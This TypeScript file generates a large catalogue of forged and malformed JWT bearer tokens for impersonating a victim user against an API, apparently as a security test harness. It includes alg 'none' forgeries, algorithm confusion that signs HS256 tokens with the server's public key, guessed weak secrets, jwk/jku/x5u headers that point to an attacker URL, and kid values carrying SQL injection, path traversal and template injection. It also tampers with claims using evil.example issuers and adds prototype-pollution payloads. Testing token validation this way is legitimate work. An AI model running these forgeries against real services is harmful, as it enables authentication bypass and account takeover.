import { createHmac, type KeyObject } from 'node:crypto';
import { byHmac, encode, forge, nowSeconds, type Part, type Signer } from '../wire/tokens.js';

/** A way to be somebody else, or nobody, and to buy all the same. */
export interface TokenForm {
  readonly name: string;
  /** Values of the header Authorization; several are sent as several headers. */
  readonly authorization: readonly string[];
  /** Where else the token is put. */
  readonly elsewhere?: { readonly query?: string; readonly headers?: Readonly<Record<string, string>> };
}

export interface FormsContext {
  /** Claims that are good for the user whom the attacker wants to be. */
  readonly victim: Part;
  /** Claims that are good for the attacker. */
  readonly attacker: Part;
  /** What the login signs with: only what a form has wrong besides keeps its token from being good. */
  readonly signer: Signer;
  /** An address of the attacker's own, with keys. */
  readonly attackersUrl: string;
}

const UNSIGNED: Signer = () => Buffer.alloc(0);
const HUGE_LENGTH = 10_000;
const TOO_HUGE_LENGTH = 20_000;
const NESTING = 3_000;

const bearer = (name: string, token: string): TokenForm => ({ name, authorization: [`Bearer ${token}`] });

/** Every form for an API that checks a shared secret. */
export function formsAgainstSecret(context: FormsContext): TokenForm[] {
  return [
    ...withoutToken(context),
    ...ofBrokenStructure(context),
    ...ofOtherAlgorithms(context),
    ...ofOtherKeys(context),
    ...withInjectedKeys(context),
    ...withCriticalHeaders(context),
    ...withBadClaims(context),
    ...withBadContent(context),
  ];
}

function withoutToken({ victim, attacker, signer }: FormsContext): TokenForm[] {
  const forged = forge({ alg: 'none' }, victim, UNSIGNED);
  const own = forge({ alg: 'HS256' }, attacker, signer);
  const good = forge({ alg: 'HS256' }, victim, signer);
  return [
    { name: 'no header', authorization: [] },
    ...['', 'Bearer', 'Bearer null', 'Bearer undefined', 'Bearer 0', 'Bearer true', 'Bearer {}', 'Bearer []'].map(
      (value) => ({ name: `the header "${value}"`, authorization: [value] }),
    ),
    { name: 'Basic', authorization: [`Basic ${Buffer.from(`${String(victim['sub'])}:`).toString('base64')}`] },
    ...['Token', 'JWT', 'DPoP', 'Digest', 'Negotiate', 'BearerX', 'Bear er'].map((scheme) => ({
      name: `the scheme ${scheme}`,
      authorization: [`${scheme} ${good}`],
    })),
    { name: 'no scheme', authorization: [good] },
    { name: 'two spaces', authorization: [`Bearer  ${good}`] },
    { name: 'a tab', authorization: [`Bearer\t${good}`] },
    { name: 'quotes', authorization: [`Bearer "${good}"`] },
    { name: 'a comma behind it', authorization: [`Bearer ${good},`] },
    { name: 'a list of two', authorization: [`Bearer ${own}, Bearer ${forged}`] },
    { name: 'two in a row', authorization: [`Bearer ${own} ${forged}`] },
    { name: 'two headers, the forged one first', authorization: [`Bearer ${forged}`, `Bearer ${own}`] },
    { name: 'two headers, the forged one last', authorization: [`Bearer ${own}`, `Bearer ${forged}`] },
    { name: 'in the query', authorization: [], elsewhere: { query: `access_token=${good}` } },
    ...['cookie', 'x-authorization', 'proxy-authorization', 'x-access-token', 'x-forwarded-user'].map((header) => ({
      name: `in the header ${header}`,
      authorization: [],
      elsewhere: { headers: { [header]: header === 'cookie' ? `token=${good}` : `Bearer ${good}` } },
    })),
  ];
}

function ofBrokenStructure({ victim, attacker, signer }: FormsContext): TokenForm[] {
  const [header = '', , signature = ''] = forge({ alg: 'HS256' }, attacker, signer).split('.');
  const content = encode(victim);
  const flipped = Buffer.from(signature, 'base64url')
    .map((byte, i) => (i === 0 ? byte ^ 1 : byte))
    .toString();
  const forms: Readonly<Record<string, string>> = {
    'the content of another under its own signature': `${header}.${content}.${signature}`,
    'no signature': `${header}.${content}`,
    'an empty signature': `${header}.${content}.`,
    'a flipped bit': `${header}.${content}.${Buffer.from(flipped).toString('base64url')}`,
    'half a signature': `${header}.${content}.${signature.slice(0, 20)}`,
    'a signature that goes on': `${header}.${content}.${signature}AAAA`,
    'a signature of zeros': `${header}.${content}.${Buffer.alloc(32).toString('base64url')}`,
    'no first part': `.${content}.${signature}`,
    'no second part': `${header}..${signature}`,
    'dots alone': '..',
    'one part': content,
    'four parts': `${header}.${content}.${signature}.${signature}`,
    'five parts': `${header}.${content}.${signature}.${signature}.${signature}`,
    'a dot before it': `.${header}.${content}.${signature}`,
    'a dot behind it': `${header}.${content}.${signature}.`,
    'header and content swapped': `${content}.${header}.${signature}`,
    'encoded dots': `${header}%2e${content}%2e${signature}`,
    'padding behind each part': `${header}==.${content}==.${signature}=`,
    'padding inside': `${header}.${content.slice(0, 8)}==${content.slice(8)}.${signature}`,
    'base64 of the other alphabet': `${header}.${content}.${signature.replaceAll('-', '+').replaceAll('_', '/')}/+`,
    'white space inside': `${header}. ${content}.${signature}`,
    'letters that are no base64': `${header}.${content}.%%%%`,
    'letters outside of ASCII': `${header}.${content}.\u00e4\u00f6\u00fc`,
  };
  return Object.entries(forms).map(([name, token]) => bearer(name, token));
}

const ALGORITHMS: readonly unknown[] = [
  ...['none', 'None', 'NONE', 'nOnE', 'none ', '', 'null', 'hs256', 'HS256 ', 'HS1', 'HMAC', 'RS256', 'RS384'],
  ...['RS512', 'PS256', 'PS384', 'PS512', 'ES256', 'ES384', 'ES512', 'ES256K', 'EdDSA', 'Ed25519', 'dir', 'A128KW'],
  ...['RSA-OAEP', 'PBES2-HS256+A128KW', '__proto__', 'constructor', 'toString'],
  ...[null, 0, true, [], {}, ['HS256'], { toString: 'HS256' }],
];

function ofOtherAlgorithms({ victim, signer }: FormsContext): TokenForm[] {
  const named = ALGORITHMS.flatMap((alg) => [
    bearer(`alg ${JSON.stringify(alg)}, not signed`, forge({ alg }, victim, UNSIGNED)),
    bearer(`alg ${JSON.stringify(alg)}, signed`, forge({ alg }, victim, signer)),
  ]);
  return [
    ...named,
    bearer('no alg', forge({ typ: 'JWT' }, victim, signer)),
    bearer('two algs in the text', forge('{"alg":"HS256","alg":"none"}', victim, UNSIGNED)),
    bearer('HS256 by another hash', forge({ alg: 'HS256' }, victim, byHmac('x', 'sha512'))),
  ];
}

function ofOtherKeys({ victim, attacker, signer }: FormsContext): TokenForm[] {
  const secrets: readonly (string | Buffer)[] = [
    ...['', '\0', 'secret', 'password', 'your-256-bit-secret', 'null', 'undefined', String(victim['iss'])],
    ...[String(victim['aud']), 'HS256', Buffer.alloc(32), Buffer.alloc(64)],
  ];
  const own = forge({ alg: 'HS256' }, attacker, signer);
  return [
    ...secrets.map((secret) =>
      bearer(`the secret ${JSON.stringify(secret.toString())}`, forge({ alg: 'HS256' }, victim, byHmac(secret))),
    ),
    bearer('a token as the secret', forge({ alg: 'HS256' }, victim, byHmac(own))),
  ];
}

const KEY_IDS: readonly unknown[] = [
  ...['/dev/null', '../../../../dev/null', 'file:///dev/null', "' UNION SELECT '' --", '', '\0', '__proto__', 'a|id'],
  ...['http://127.0.0.1:1/key', '${7*7}', 'k'.repeat(2_000), 0, null, [], {}],
];

/** Headers that bring the key along, or say where it is. */
function withInjectedKeys({ victim, attackersUrl }: FormsContext): TokenForm[] {
  const key = Buffer.from('the key of the attacker, 32 bytes');
  const jwk = { kty: 'oct', k: key.toString('base64url') };
  const signer = byHmac(key);
  const headers: Readonly<Record<string, Part>> = {
    jwk: { jwk },
    'jwk and kid': { jwk: { ...jwk, kid: 'one' }, kid: 'one' },
    jku: { jku: `${attackersUrl}/keys`, kid: 'one' },
    x5u: { x5u: `${attackersUrl}/certificate` },
    x5c: { x5c: [key.toString('base64')] },
    x5t: { x5t: createHmac('sha1', key).digest('base64url') },
    'jwks in the header': { jwks: { keys: [jwk] } },
    'an issuer in the header': { iss: attackersUrl, kid: 'one' },
  };
  return [
    ...Object.entries(headers).map(([name, more]) => bearer(name, forge({ alg: 'HS256', ...more }, victim, signer))),
    ...KEY_IDS.map((kid) =>
      bearer(`kid ${JSON.stringify(kid)?.slice(0, 40)}`, forge({ alg: 'HS256', kid }, victim, byHmac(''))),
    ),
  ];
}

/** Signed by the login itself; but a header that must be understood is not. */
function withCriticalHeaders({ victim, signer }: FormsContext): TokenForm[] {
  const headers: readonly Part[] = [
    { crit: ['exp'], exp: 1 },
    { crit: ['https://example.org/unknown'], 'https://example.org/unknown': true },
    { crit: [] },
    { crit: 'b64' },
    { crit: ['b64'], b64: false },
    { crit: ['alg'] },
    { crit: [7] },
    { crit: ['missing'] },
  ];
  return headers.map((more) => bearer(JSON.stringify(more), forge({ alg: 'HS256', ...more }, victim, signer)));
}

/** Signed by the login itself; but not for this, not now, or not by this user. */
function withBadClaims({ victim, signer }: FormsContext): TokenForm[] {
  const now = nowSeconds();
  const { iss, aud, sub } = victim as { iss: string; aud: string; sub: string };
  const changes: readonly Part[] = [
    ...[undefined, null, 'soon', String(now + 60), now - 60, 0, -1, [], {}, true].map((exp) => ({ exp })),
    ...[now + 600, 'now', null, [], {}].map((nbf) => ({ nbf })),
    ...[undefined, null, 'https://evil.example', `${iss}.evil.example`, `${iss}/`, iss.toUpperCase(), [iss], {}].map(
      (issuer) => ({ iss: issuer }),
    ),
    ...[undefined, null, 'another-shop', aud.slice(0, 5), `${aud} `, aud.toUpperCase(), [], ['another-shop'], {}].map(
      (audience) => ({ aud: audience }),
    ),
    ...[
      undefined,
      null,
      7,
      '',
      [sub],
      { sub },
      true,
      '\ud800',
      `${sub} `,
      ` ${sub}`,
      `${sub}\0`,
      sub.toUpperCase(),
    ].map((subject) => ({ sub: subject })),
    ...[`${sub}\u200b`, sub.replace('t', '\uff54'), `${sub}%20`, `../${sub}`].map((subject) => ({ sub: subject })),
  ];
  return changes.map((change) => {
    const said = Object.entries(change).map(([name, value]) => `${name} ${JSON.stringify(value) ?? 'missing'}`);
    return bearer(`claim ${said.join(', ')}`, forge({ alg: 'HS256' }, { ...victim, ...change }, signer));
  });
}

function withBadContent({ victim, signer }: FormsContext): TokenForm[] {
  const contents: Readonly<Record<string, unknown>> = {
    null: 'null',
    'a list': [victim],
    'a number': '7',
    'a text': '"ann"',
    'no JSON': '{"sub":',
    nothing: '',
    'a nested token': forge({ alg: 'HS256' }, victim, signer),
    'deep nesting': `${'{"a":'.repeat(NESTING)}1${'}'.repeat(NESTING)}`,
    'a prototype': '{"__proto__":{"sub":"ann","exp":9999999999}}',
    'bytes that are no UTF-8': Buffer.from([0x7b, 0xff, 0xfe, 0x7d]).toString('latin1'),
  };
  return [
    ...Object.entries(contents).map(([name, content]) =>
      bearer(`a content that is ${name}`, forge({ alg: 'HS256' }, content, signer)),
    ),
    bearer('a huge token', `${'a'.repeat(HUGE_LENGTH)}.b.c`),
    bearer('a token that is too huge', `${'a'.repeat(TOO_HUGE_LENGTH)}.b.c`),
    bearer('a huge header', forge({ alg: 'HS256', x: 'x'.repeat(HUGE_LENGTH / 2) }, victim, byHmac('x'))),
  ];
}

/** Forms for an API that checks a public key, which everybody has. */
export function formsAgainstPublicKey(
  victim: Part,
  publicKey: KeyObject,
  others: Readonly<Record<string, Signer>>,
): TokenForm[] {
  const pem = String(publicKey.export({ type: 'spki', format: 'pem' }));
  const der = publicKey.export({ type: 'spki', format: 'der' });
  const secrets: Readonly<Record<string, string | Buffer>> = {
    'the PEM': pem,
    'the PEM, trimmed': pem.trim(),
    'the PEM in one line': pem.replaceAll('\n', ''),
    'the PEM with CR LF': pem.replaceAll('\n', '\r\n'),
    'the base64 of the PEM': pem.split('\n').slice(1, -2).join(''),
    'the DER': der,
    'the JWK': JSON.stringify(publicKey.export({ format: 'jwk' })),
    'the modulus': Buffer.from(publicKey.export({ format: 'jwk' }).n ?? '', 'base64url'),
  };
  return [
    ...Object.entries(secrets).flatMap(([name, secret]) =>
      ['HS256', 'HS384', 'HS512'].map((alg) =>
        bearer(`${alg} with ${name} as the secret`, forge({ alg }, victim, byHmac(secret, `sha${alg.slice(2)}`))),
      ),
    ),
    ...Object.entries(others).map(([alg, signer]) =>
      bearer(`${alg} by a key of the attacker`, forge({ alg: alg.split(' ')[0] }, victim, signer)),
    ),
    ...['none', 'RS256', 'ES256'].map((alg) => bearer(`${alg}, not signed`, forge({ alg }, victim, UNSIGNED))),
  ];
}

/** Forms for an API that reads the keys which the login publishes. */
export function formsAgainstKeySet(
  victim: Part,
  publicKey: KeyObject,
  other: Signer,
  attackersUrl: string,
): TokenForm[] {
  const jwk = publicKey.export({ format: 'jwk' });
  const headers: readonly Part[] = [
    ...['unknown', '', '__proto__', 'constructor', 'two', 'one\0', '../one', 7, null].map((kid) => ({ kid })),
    {},
    { kid: 'one', jku: `${attackersUrl}/keys` },
    { kid: 'one', jwk },
    { kid: 'one', x5u: `${attackersUrl}/certificate` },
    { kid: 'one', typ: 'at+jwt' },
  ];
  return [
    ...headers.map((more) =>
      bearer(
        `RS256 by the attacker with ${JSON.stringify(more).slice(0, 60)}`,
        forge({ alg: 'RS256', ...more }, victim, other),
      ),
    ),
    bearer('HS256 with the published key', forge({ alg: 'HS256', kid: 'one' }, victim, byHmac(JSON.stringify(jwk)))),
    bearer('none with the id of a published key', forge({ alg: 'none', kid: 'one' }, victim, UNSIGNED)),
    bearer('ES256 with the id of an RSA key', forge({ alg: 'ES256', kid: 'one' }, victim, other)),
  ];
}
